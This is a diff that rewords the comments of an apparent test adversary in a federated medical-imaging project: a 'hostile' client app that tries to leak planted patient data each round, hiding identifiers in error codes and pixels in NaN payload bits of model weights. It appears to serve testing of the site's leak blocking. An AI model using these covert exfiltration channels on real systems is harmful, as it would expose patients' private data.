@@ -1,8 +1,9 @@
-"""A hostile app: in each round it tries another leak, with the data of another patient. This file is its ClientApp.
+"""A hostile app that tries another leak in each round, with the data of another patient. This file is its ClientApp.
 
-It stands for an app that was approved without a careful review. It trains as our own app does, and then sends data of a
-patient out of the site, in the reply or outside it. It reads this data from cohort/planted.json, because the leaks also
-use texts such as names, which no cohort holds. If the site blocked a leak, the app writes this to the site's log.
+It stands for an app that was approved without a careful review. It trains as the released app does, and then sends data
+of a patient out of the site, in the reply or outside it. It reads this data from cohort/planted.json, because the leaks
+also use texts such as names, which no cohort contains. If the site blocked a leak, the app writes this to the site's
+log.
 """
 
 import base64
@@ -25,23 +26,23 @@ from numpy.typing import NDArray
 from federation.client import client_app
 from federation.protocol.flat_weights import WEIGHTS
 
-PLANTED = "planted.json"  # below cohort/
+PLANTED = "planted.json"  # in the folder cohort/
 SECONDS = 3.0
-PIXELS = 300  # consecutive values that a leak takes
+PIXELS = 300  # number of consecutive values that a leak takes
 app = ClientApp()
 
 
 @dataclass(frozen=True)
 class Loot:
-    """One patient, and the destinations of leaks outside the reply."""
+    """The data of one patient, and the destinations of leaks outside the reply."""
 
     name: str
-    identifier: str  # of digits
+    identifier: str  # digits only
     uid: str
     laboratory: str
     pixels: NDArray  # float32, -1 to 1, from the cached tensor
-    source: str  # a file of the hospital's
-    drops: tuple[str, ...]  # files outside the site
+    source: str  # path of a file of the hospital
+    drops: tuple[str, ...]  # paths of files outside the site
     host: str
     port: int
 
@@ -57,17 +58,17 @@ class Loot:
 
 Leak = Callable[[Loot, Message, Message], Message | None]
 LEAKS: dict[str, Leak] = {}
-AROUND: list[str] = []  # leaks outside the reply
+AROUND: list[str] = []  # names of the leaks outside the reply
 
 
 def leak(function: Leak) -> Leak:
-    """A way out: it gets the loot, the reply as it would be, and the request; a reply that it returns is sent."""
+    """Register a leak. It receives the loot, the intended reply and the request. A reply that it returns is sent."""
     LEAKS[function.__name__.replace("_", " ")] = function
     return function
 
 
 def around(function: Leak) -> Leak:
-    """A way out around the reply."""
+    """Register a leak outside the reply."""
     AROUND.append(function.__name__.replace("_", " "))
     return leak(function)
 
@@ -176,7 +177,7 @@ def name_as_a_code(loot: Loot, _reply: Message, request: Message) -> Message:
 
 @leak
 def identifier_as_the_letters_of_a_code(loot: Loot, _reply: Message, request: Message) -> Message:
-    letters = loot.identifier.translate(str.maketrans("0123456789", "QXKVZJWMHU"))  # a code of its own
+    letters = loot.identifier.translate(str.maketrans("0123456789", "QXKVZJWMHU"))  # an arbitrary letter for each digit
     return Message(Error(1001, f"E_{letters}"), reply_to=request)
 
 
@@ -193,7 +194,7 @@ def identifier_in_the_decimals_of_figures(loot: Loot, reply: Message, _request: 
 def pixels_in_nan_payloads(loot: Loot, reply: Message, _request: Message) -> None:
     weights = _weights(reply)
     stored = ((loot.pixels + 1) * 1000).astype(np.uint32)
-    weights[:PIXELS] = (stored | 0x7FC00000).view(np.float32)  # NaN, whose lower 22 bits are free
+    weights[:PIXELS] = (stored | 0x7FC00000).view(np.float32)  # NaN, whose lower 22 bits are arbitrary
     _set_weights(reply, weights)
 
 
@@ -237,7 +238,7 @@ def text_in_scattered_bits(loot: Loot, reply: Message, _request: Message) -> Non
     _set_weights(reply, weights)
 
 
-# --- around the reply -------------------------------------------------------------------------------------
+# --- outside the reply ------------------------------------------------------------------------------------
 
 
 @around
@@ -287,10 +288,10 @@ def printed_text(loot: Loot, _reply: Message, _request: Message) -> None:
 
 @app.train()
 def train(message: Message, context: Context) -> Message:
-    """Train as our own app does; then the leak whose turn it is."""
+    """Train as the released app does, then try the leak of this round."""
     reply = client_app.train(message, context)
     cohort = client_app.site_folder(context) / "cohort"
-    if reply.has_error() or not (cohort / PLANTED).is_file():  # the site that is not watched has nothing to take
+    if reply.has_error() or not (cohort / PLANTED).is_file():  # the site that is not watched has no planted data
         return reply
     round_number = int(str(message.content.config_records["config"]["server-round"]))
     name, entry = json.loads((cohort / PLANTED).read_text())[round_number - 1]
@@ -304,7 +305,7 @@ def train(message: Message, context: Context) -> Message:
     return other or reply
 
 
-# All else it does as our own app does.
+# All other handlers are those of the released app.
 app.query("handshake")(client_app.handshake)
 app.train("head")(client_app.fine_tune)
 app.evaluate("calibrate")(client_app.calibrate)
@@ -314,5 +315,5 @@ app.evaluate("assign")(client_app.assign)
 
 
 def note(round_number: int, what: str) -> None:
-    """One line in the log that stays at the site."""
+    """Write one line to the log, which stays at the site."""
     logging.getLogger("fedthorax.site").info("leak of round %d: %s", round_number, what)
